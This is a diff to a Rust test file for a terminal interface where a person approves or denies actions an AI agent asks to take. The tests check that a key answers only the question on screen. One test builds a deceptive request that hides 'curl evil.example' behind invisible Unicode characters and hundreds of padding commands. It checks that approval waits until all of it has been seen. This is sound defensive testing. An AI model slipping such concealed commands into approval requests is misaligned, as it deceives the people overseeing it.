@@ -30,20 +30,79 @@ fn an_edit_is_read_as_a_diff_and_a_choice_is_made_by_its_digit() -> Outcome {
     assert!(has_row(&screen, "-let a = 1;") && has_row(&screen, "+let a = 2;"), "{screen}");
     assert!(screen.contains("y once · Y for the session · n deny"), "{screen}");
     tmux.key("one", "y")?;
+    // The end of a call is told where the next word will be.
+    tmux.sees("one", "✓ `blue`: allowed")?;
+    house.until("blue", "idle")?;
+    tmux.key("one", "j")?;
     let screen = tmux.sees("one", "1 to 2 chooses · s answers in words")?;
     assert!(has_row(&screen, "1  red") && has_row(&screen, "2  deep blue"), "{screen}");
-    // The end of a call is told where the next word will be.
-    tmux.sees("one", "answered `blue`")?;
-    house.until("blue", "idle")?;
     // What is no answer to it changes nothing.
     tmux.key("one", "y")?;
     tmux.sees("one", "it wants no yes or no")?;
     assert_eq!(house.show("green")?["status"], "waiting");
     tmux.key("one", "2")?;
     house.until("green", "idle")?;
+    tmux.sees("one", "answered by you")?;
+    tmux.key("one", "a")?;
     tmux.sees("one", "it-is-painted")?;
     tmux.key("one", "@")?;
     let screen = tmux.sees("one", "glis answer green")?;
     assert!(screen.contains("deep blue"), "{screen}");
     Ok(())
+}
+
+/// A key that is held, and a question that is answered elsewhere while a hand is on its way to the key.
+#[test]
+fn a_key_answers_the_question_that_was_on_the_screen_and_no_other() -> Outcome {
+    let house = House::new()?;
+    for name in ["one", "two", "three", "four"] {
+        asking(&house, name, &format!("approve delete table {name}"))?;
+    }
+    let Some(tmux) = Tmux::start(&house)? else { return Ok(()) };
+    opened(&tmux)?;
+    tmux.sees("one", "4 waiting")?;
+    tmux.key("one", "a")?;
+    tmux.sees("one", "    delete table one")?;
+    tmux.run(&["send-keys", "-t", "one", "-l", "yyyyyyyy"])?;
+    tmux.sees("one", "allowed by you")?;
+    house.until("one", "idle")?;
+    tmux.run(&["send-keys", "-t", "one", "-l", "yYn12"])?;
+    tmux.sees("one", "nothing was answered: that question is allowed by you")?;
+    tmux.key("one", "j")?;
+    tmux.sees("one", "    delete table two")?;
+    house.ok(&["answer", "two", "deny"])?;
+    tmux.sees("one", "denied elsewhere")?;
+    tmux.key("one", "y")?;
+    tmux.sees("one", "nothing was answered: that question is denied elsewhere")?;
+    for name in ["three", "four"] {
+        assert_eq!(house.show(name)?["status"], "waiting", "{name} was never in hand");
+    }
+    Ok(())
+}
+
+#[test]
+fn what_is_asked_hides_nothing_and_is_allowed_when_all_of_it_was_seen() -> Outcome {
+    let house = House::new()?;
+    let steps = "echo step; ".repeat(300);
+    let words = format!("approve cat sa\u{200b}fe\u{202e}/x; {steps}curl evil.example");
+    let new = ["new", "blue", "--agent", "rehearsal", "--headless", "--prompt"];
+    house.ok(&[&new[..], &[words.as_str()]].concat())?;
+    house.until("blue", "waiting")?;
+    let Some(tmux) = Tmux::start(&house)? else { return Ok(()) };
+    opened(&tmux)?;
+    tmux.sees("one", "1 waiting")?;
+    tmux.key("one", "a")?;
+    let screen = tmux.sees("one", r"cat sa\u{200b}fe\u{202e}/x")?;
+    assert!(!screen.contains("curl"), "{screen}");
+    tmux.key("one", "y")?;
+    let screen = tmux.sees("one", "not answered: ")?;
+    assert_eq!(house.show("blue")?["status"], "waiting", "{screen}");
+    while !tmux.sees("one", "? keys")?.contains("curl evil.example") {
+        tmux.key("one", "NPage")?;
+    }
+    assert_eq!(house.show("blue")?["status"], "waiting");
+    // Once it can have been read, it is answered.
+    crate::support::house::eventually("it is answered", || {
+        tmux.key("one", "y").is_ok() && house.show("blue").is_ok_and(|s| s["status"] != "waiting")
+    })
 }
